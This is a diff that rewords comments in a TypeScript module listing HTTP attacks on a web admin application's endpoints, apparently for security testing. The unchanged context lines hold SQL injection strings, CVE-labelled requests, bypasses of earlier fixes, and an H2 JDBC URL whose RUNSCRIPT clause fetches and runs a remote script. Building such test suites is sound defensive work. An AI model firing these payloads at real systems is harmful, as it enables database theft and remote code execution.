@@ -1,6 +1,6 @@
 import { data } from '../online/forms.ts'
 
-/** Ids of what is attacked. */
+/** Ids of the attacked rows. */
 export interface Places {
   form: string
   report: string
@@ -14,7 +14,7 @@ export interface Attack {
 }
 const q = (path: string, query: Record<string, string>): Attack => ({ path: () => path, query })
 const p = (path: string, body: object): Attack => ({ method: 'POST', path: () => path, body })
-/** `?` stands for the condition. */
+/** `?` is replaced by the condition. */
 export const attacks: [string, Attack][] = [
   [
     'CVE-2025-51825 parseSql in the address',
@@ -79,7 +79,7 @@ export const attacks: [string, Attack][] = [
       hasChildField: '',
     }),
   ],
-  // Bypasses of what was mended there (issues 9520 and 9571): by another parameter, by a comment for a space.
+  // Bypasses of the fixes there (issues 9520 and 9571): another parameter, a comment instead of a space.
   [
     'issue 9520 loadTreeData, parent and condition',
     q('/sys/dict/loadTreeData', {
@@ -177,7 +177,7 @@ export const attacks: [string, Attack][] = [
     'CVE-2025-66913 address of a database of another product',
     p('/jmreport/testConnection', { dbType: 'H2', dbUrl: "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://127.0.0.1/?'" }),
   ],
-  // What the add-on pasted into its statements, call by call.
+  // Input that the add-on concatenated into its statements, call by call.
   [
     'parameter of a report',
     { path: ({ report }) => `/online/cgreport/api/getData/${report}`, query: { self_school: "x' or 't7k'='?" } },
